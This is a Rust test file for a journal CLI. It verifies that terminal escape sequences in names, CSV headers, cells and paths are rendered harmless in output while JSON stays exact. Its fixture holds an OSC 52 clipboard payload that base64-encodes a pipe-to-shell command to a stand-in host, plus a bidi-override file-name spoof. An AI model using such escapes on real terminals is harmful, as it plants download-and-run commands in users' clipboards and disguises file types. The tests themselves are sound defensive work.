//! Terminal escapes in journal or file text never reach the terminal raw
//! (item 7): every message quoting such text shows control characters as
//! visible symbols; `list` and `show` too; JSON stays exact.

use super::*;

/// OSC 52 (clipboard), OSC 0 (window title), a C1 CSI and a bidi override.
const EVIL: &str =
    "Eve\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}gnp";

fn evil_world() -> World {
    let w = World::new();
    w.run(&["person", "add", EVIL, "--current"]).ok();
    w
}

#[test]
fn the_success_line_of_log_shows_a_crafted_name_without_escapes() {
    let w = evil_world();
    let run = w.run(&["log", "coffee", "x"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stderr.contains("Eve"), "{run:?}");
    assert!(!has_controls(&run.stderr), "raw controls: {:?}", run.stderr);
}

#[test]
fn an_unknown_person_message_shows_the_typed_and_the_known_names_without_escapes() {
    let w = evil_world();
    let err = w
        .run(&["log", "coffee", "x", "--with", "Mallory\u{1b}[2J"])
        .usage_error();
    assert!(err.contains("Mallory"), "{err}");
    assert!(!has_controls(&err), "raw controls: {err:?}");
}

#[test]
fn import_errors_quoting_a_header_or_a_kind_cell_show_no_escapes() {
    let w = World::with_manager();
    let header = w.path("header.csv");
    write(
        &header,
        "happened_on,kind\u{1b}]0;x\u{7},title\n2026-11-20,coffee,x\n",
    );
    let err = w.run(&["import", s(&header)]).usage_error();
    assert!(!has_controls(&err), "raw controls: {err:?}");
    let cell = w.path("cell.csv");
    write(
        &cell,
        "happened_on,kind,title\n2026-11-20,cof\u{1b}[31mfee\u{202e},x\n",
    );
    let err = w.run(&["import", s(&cell)]).usage_error();
    assert!(err.contains("cof"), "{err}");
    assert!(!has_controls(&err), "raw controls: {err:?}");
}

#[test]
fn a_path_that_cannot_be_read_is_named_without_escapes() {
    let w = World::with_manager();
    let path = w.path("no\u{1b}]0;title\u{7}such.csv");
    let run = w.run(&["import", s(&path)]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("such.csv"), "{run:?}");
    assert!(!has_controls(&run.stderr), "raw controls: {:?}", run.stderr);
}

#[test]
fn list_and_show_show_controls_c1_and_bidi_overrides_as_symbols_and_json_stays_exact() {
    let w = evil_world();
    let id = w.log(&["coffee", "title\u{9b}31m\u{202e}txt.exe"]);
    let listed = w.run(&["list"]).ok();
    assert!(listed.contains("Eve"), "{listed}");
    assert!(!has_controls(&listed), "raw controls: {listed:?}");
    let shown = w.run(&["show", &id.to_string()]).ok();
    assert!(!has_controls(&shown), "raw controls: {shown:?}");
    let json = w.run(&["show", &id.to_string(), "--json"]).ok();
    let value: serde_json::Value = serde_json::from_str(&json).expect("json");
    assert_eq!(
        value["title"], "title\u{9b}31m\u{202e}txt.exe",
        "exact in JSON"
    );
}
